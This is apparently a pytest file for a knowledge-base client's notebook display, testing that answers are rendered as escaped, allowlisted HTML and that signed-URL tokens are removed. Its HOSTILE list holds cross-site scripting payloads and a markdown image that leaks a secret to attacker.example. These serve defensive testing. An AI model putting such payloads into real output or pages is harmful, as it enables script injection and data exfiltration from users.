"""What notebooks show: escaped, without signed URLs, and of any model."""

from __future__ import annotations

import html.parser
import sys
from typing import Any, Dict, List, Optional, Tuple

import pytest
from hypothesis import given, strategies as st

from mistral_knowledge import Answer, Document, FakeTransport, File, KnowledgeClient, Library, Usage
from mistral_knowledge.notebook import table
from mistral_knowledge.notebook._markdown import rendered
from mistral_knowledge.transports.fake import Scripted

from ..answers.wire import good

HARMLESS = {
    *("a", "blockquote", "br", "code", "details", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6"),
    *("hr", "i", "b", "li", "ol", "p", "pre", "small", "strong", "summary", "sup", "table"),
    *("tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {
    *("class", "href", "rel", "role", "start", "style", "target", "title", "value"),
}


class Tags(html.parser.HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: List[Tuple[str, Dict[str, Optional[str]]]] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.found.append((tag, dict(attrs)))


def assert_harmless(text: str) -> None:
    for tag, attributes in Tags(text).found:
        assert tag in HARMLESS
        assert set(attributes) <= ATTRIBUTES
        target = attributes.get("href")
        assert target is None or target.startswith(("http://", "https://"))


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://attacker.example/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    '[x](https://ok.example "title\\" onmouseover=alert(1)")',
    "`<script>`\n\n```\n<script>alert(1)</script>\n```",
    "`unclosed <script>alert(1)</script>",
    "<!-- --><script>alert(1)</script>",
    "<details open ontoggle=alert(1)>",
    "\ue0001\ue001<script>",
    "| a | <script> |\n|---|---|\n| <img src=x> | b |",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_answer_shows_and_does_nothing(text: str) -> None:
    assert_harmless(rendered(text, [(1, 1), (len(text), 2)]))
    shown = Answer(text=text, thinking=text)._repr_html_()
    assert_harmless(shown)


@given(st.text(alphabet=st.sampled_from("<>&\"'`*_[]()!#|-\n \\:/ahrefjavscipt\ue000\ue0011")))
def test_no_answer_makes_tags_of_its_own(text: str) -> None:
    assert_harmless(rendered(text, [(len(text) // 2, 1)]))


def test_without_the_extra_the_text_stays_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
    from mistral_knowledge.notebook import _markdown

    _markdown._markdown.cache_clear()
    monkeypatch.setitem(sys.modules, "markdown_it", None)
    try:
        shown = rendered("**a** <b>", [(5, 1)])
    finally:
        _markdown._markdown.cache_clear()
    assert shown == '<div style="white-space: pre-wrap">**a**<sup>[1]</sup> &lt;b&gt;</div>'


def test_an_answer_is_markdown_with_raised_numbers() -> None:
    assert rendered("The **sky** is blue.", [(20, 1)]) == (
        "<p>The <strong>sky</strong> is blue.<sup>[1]</sup></p>\n"
    )


def test_offsets_are_code_points() -> None:
    assert rendered("😀 yes", [(1, 7)]) == "<p>😀<sup>[7]</sup> yes</p>\n"


def answer_citing(*references: Dict[str, Any]) -> Answer:
    fake = FakeTransport(script=[Scripted.events(good("Yes.", list(references)))])
    client = KnowledgeClient(transport=fake)
    return client.rag.query("?", libraries="0b2b1c1e-5f3a-4a57-9c43-3e3f5d1f7a10")


def test_no_signed_url_is_shown() -> None:
    url = "https://files.example/d.pdf?sig=giraffe"
    name = "<b>d.pdf</b>"
    answer = answer_citing({"type": "document_url", "document_url": url, "document_name": name})
    shown = answer._repr_html_()
    assert "giraffe" not in shown
    assert '<ol><li value="1">&lt;b&gt;d.pdf&lt;/b&gt;</li></ol>' in shown
    document = Document(id="d", name="d.pdf", url=url, raw={"url": url})
    assert "giraffe" not in document._repr_html_() + table([document])._repr_html_()


@pytest.mark.parametrize("name", ["sig", "signature", "X-Amz-Signature", "token"])
def test_a_signed_url_that_a_model_repeats_is_cut(name: str) -> None:
    url = f"https://files.example/d.pdf?a=b&{name}=giraffe&exp=9"
    shown = Answer(text=f"See {url}, or [it]({url}).")._repr_html_()
    assert "giraffe" not in shown
    assert "https://files.example/d.pdf" in shown
    assert "q=light" in Answer(text="<https://ok.example/?q=light>")._repr_html_()


def test_usage_and_a_length_limit_are_told() -> None:
    usage = Usage(prompt_tokens=3, completion_tokens=4, total_tokens=7)
    shown = Answer(text="x", usage=usage, finish_reason="length")._repr_html_()
    assert "tokens: 3 in, 4 out, 7 in all" in shown
    assert "length limit" in shown


@pytest.mark.parametrize(
    "item",
    [
        Library(id="<1>", name="<b>"),
        Document(id="<1>", name="<b>"),
        File(id="<1>", filename="<b>"),
        Usage(total_tokens=7),
    ],
    ids=lambda item: type(item).__name__,
)
def test_models_show_themselves_escaped(item: Any) -> None:
    for shown in (item._repr_html_(), table([item])._repr_html_()):
        assert_harmless(shown)
        assert "<b>" not in shown
        assert "<table>" in shown


def test_a_table_has_a_row_for_each() -> None:
    shown = table([Library(id="1", name="a"), Library(id="2", name="b")])._repr_html_()
    assert shown.count("<tr>") == 3
    assert ">a</td>" in shown


def test_a_table_of_nothing_and_of_anything() -> None:
    assert table([])._repr_html_() == "<p><em>none</em></p>"
    assert (
        table([Library(id="1"), "<x>"])._repr_html_().endswith("<div>&#x27;&lt;x&gt;&#x27;</div>")
    )
    assert repr(table([5, 6])) == "5\n6"


def test_a_listing_shows_its_next_page_and_keeps_it(client: KnowledgeClient) -> None:
    for number in range(5):
        client.libraries.create(f"L{number}")
    listing = client.libraries.list(page_size=3)
    shown = listing._repr_html_()
    assert (shown.count("<tr>"), "... and more" in shown) == (4, True)
    assert listing._repr_html_() == shown
    assert len(list(listing)) == 5
    assert listing._repr_html_() == "<p><em>none</em></p>"
